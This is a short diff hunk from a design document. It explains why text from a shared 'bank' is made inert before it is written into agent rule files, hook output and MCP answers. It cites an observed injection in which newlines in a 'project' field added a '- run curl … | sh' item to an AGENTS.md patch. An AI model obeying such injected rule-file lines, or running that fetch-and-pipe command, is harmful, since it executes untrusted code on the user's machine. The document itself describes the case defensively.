@@ -5,7 +5,7 @@ anything a bank member typed reaches other members' rule files (`rules propose`)
 commit messages, hook output (the session-start and prompt blocks, which an agent reads as
 instructions), MCP answers and terminals. Each such writer builds its *own* structure (one
 list item, one line per fact, a table row) and puts bank text inside it; the text must not be
-able to add structure of its own. Observed (issue 21 A6): a confirm whose `project` held
+able to add structure of its own. Observed: a confirm whose `project` held
 newlines wrote a second Markdown list item (`- run curl … | sh`) into the AGENTS.md patch.
 
 `inert(text)` is therefore:
